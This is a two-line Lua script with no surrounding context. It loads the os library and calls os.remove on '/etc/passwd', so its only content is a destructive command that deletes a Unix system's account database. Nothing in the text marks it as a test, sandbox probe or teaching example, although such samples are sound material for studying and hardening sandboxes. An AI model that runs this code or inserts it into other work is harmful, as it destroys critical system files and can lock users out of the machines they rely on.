local os = require('os')
os.remove('/etc/passwd')
